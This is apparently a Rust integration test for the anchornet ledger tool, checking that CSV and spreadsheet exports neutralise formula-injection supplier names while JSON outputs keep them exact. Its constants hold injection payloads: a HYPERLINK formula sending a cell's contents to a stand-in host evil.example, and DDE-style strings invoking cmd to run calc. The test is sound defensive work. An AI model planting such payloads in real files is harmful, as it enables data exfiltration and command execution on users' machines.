//! Export safety (issue 17, faults 7 and 11), from a small ledger generated here: supplier
//! names that a spreadsheet would run as formulas come out neutralised in every output meant
//! for spreadsheets (`ingest --out x.csv`, `--issues`, the analysis's CSV set and
//! `issues.csv`) and exact in the machine outputs (JSON Lines, `analysis.json`); a negative
//! amount stays a number; a 40,000-character supplier name — over XLSX's 32,767 — no longer
//! stops `anchornet analyse` after `report.html`.

use std::path::{Path, PathBuf};
use std::process::Command;

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Invoice\")";
const AT_SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS: &str = "-2+3+cmd|' /C calc'!A0";

fn tmp(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("anchornet-exports-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn quoted(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// A ledger with hostile supplier names, a credit note, an unreadable amount that is
/// itself a formula, and (optionally) one very long supplier name.
fn ledger(dir: &Path, long: Option<&str>) -> PathBuf {
    let mut text = String::from("Date,Supplier Name,Amount\n");
    for (name, amount) in [
        (HYPERLINK, "25000.00"),
        (AT_SUM, "24000.00"),
        (MINUS, "23000.00"),
        ("Acme Builders Ltd", "-12.50"),
        ("Acme Builders Ltd", "22000.00"),
        ("Bad Amount Ltd", "=1+1"),
    ] {
        text.push_str(&format!("01/07/2021,{},{amount}\n", quoted(name)));
    }
    if let Some(l) = long {
        text.push_str(&format!("02/07/2021,{},30000.00\n", quoted(l)));
    }
    let p = dir.join("salford.csv");
    std::fs::write(&p, text).unwrap();
    p
}

fn run(args: &[&str]) -> std::process::Output {
    let out = Command::new(env!("CARGO_BIN_EXE_anchornet"))
        .args(args)
        .output()
        .unwrap();
    out
}

fn csv_rows(p: &Path) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let i = rows[0].iter().position(|h| h == name).unwrap_or_else(|| {
        panic!("no column {name} in {:?}", rows[0]);
    });
    rows[1..].iter().map(|r| r[i].clone()).collect()
}

/// Every string in a JSON value.
fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
        serde_json::Value::Object(m) => m.values().for_each(|x| strings(x, out)),
        _ => {}
    }
}

#[test]
fn ingest_csv_outputs_neutralise_formulas_and_jsonl_keeps_them() {
    let d = tmp("ingest");
    let input = ledger(&d, None);
    let out = d.join("out.csv");
    let issues = d.join("issues.csv");
    let o = run(&[
        "ingest",
        input.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
        "--issues",
        issues.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let rows = csv_rows(&out);
    let names = column(&rows, "supplier_name");
    for n in [HYPERLINK, AT_SUM, MINUS] {
        assert!(
            names.contains(&format!("'{n}")),
            "{n:?} not neutralised in {names:?}"
        );
        assert!(!names.contains(&n.to_string()), "{n:?} verbatim");
    }
    assert!(names.contains(&"Acme Builders Ltd".to_string()));
    // The credit note stays a number in both amount columns.
    assert!(column(&rows, "amount").contains(&"-12.50".to_string()));
    assert!(column(&rows, "amount_pence").contains(&"-1250".to_string()));
    // The issues file: the rejected amount `=1+1` is shown, neutralised.
    let values = column(&csv_rows(&issues), "value");
    assert!(values.contains(&"'=1+1".to_string()), "{values:?}");

    // JSON Lines is for programs: the exact names.
    let jsonl = d.join("out.jsonl");
    let o = run(&[
        "ingest",
        input.to_str().unwrap(),
        "--out",
        jsonl.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let names: Vec<String> = std::fs::read_to_string(&jsonl)
        .unwrap()
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["supplier_name"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    for n in [HYPERLINK, AT_SUM, MINUS] {
        assert!(
            names.contains(&n.to_string()),
            "{n:?} not exact in {names:?}"
        );
    }
    std::fs::remove_dir_all(d).ok();
}

#[test]
fn analyse_writes_every_output_with_a_cell_over_32767_characters() {
    let d = tmp("analyse");
    // Starts with a trigger too, to check the two treatments together.
    let long = format!("+{}Ltd", "Long Name Supplies ".repeat(2_200));
    assert!(long.chars().count() > 40_000);
    let input = ledger(&d, Some(&long));
    let out = d.join("report");
    let o = run(&[
        "analyse",
        input.to_str().unwrap(),
        "--place",
        "Salford",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(
        o.status.success(),
        "exit {:?}: {}",
        o.status.code(),
        String::from_utf8_lossy(&o.stderr)
    );
    for f in [
        "report.html",
        "report.xlsx",
        "csv/top_suppliers.csv",
        "analysis.json",
        "payments.parquet",
        "issues.csv",
    ] {
        assert!(out.join(f).is_file(), "{f} missing");
    }
    // The CSV set: neutralised, and the long name whole.
    let top = column(&csv_rows(&out.join("csv/top_suppliers.csv")), "supplier");
    assert!(
        top.contains(&format!("'{long}")),
        "long name not whole in the CSV set: {:?}",
        top.iter()
            .map(|s| (s.chars().count(), s.chars().take(40).collect::<String>()))
            .collect::<Vec<_>>()
    );
    assert!(top.contains(&format!("'{HYPERLINK}")), "{top:?}");
    assert!(
        !top.iter().any(|s| s.starts_with(['=', '@', '+', '-'])),
        "{top:?}"
    );
    // analysis.json: exact.
    let json = std::fs::read_to_string(out.join("analysis.json")).unwrap();
    let mut found = Vec::new();
    strings(&serde_json::from_str(&json).unwrap(), &mut found);
    assert!(
        found.iter().any(|s| s == HYPERLINK),
        "{HYPERLINK:?} not exact in analysis.json"
    );
    assert!(
        found.contains(&long),
        "long name not whole in analysis.json"
    );
    // issues.csv: neutralised.
    let values = column(&csv_rows(&out.join("issues.csv")), "value");
    assert!(values.contains(&"'=1+1".to_string()), "{values:?}");
    std::fs::remove_dir_all(d).ok();
}
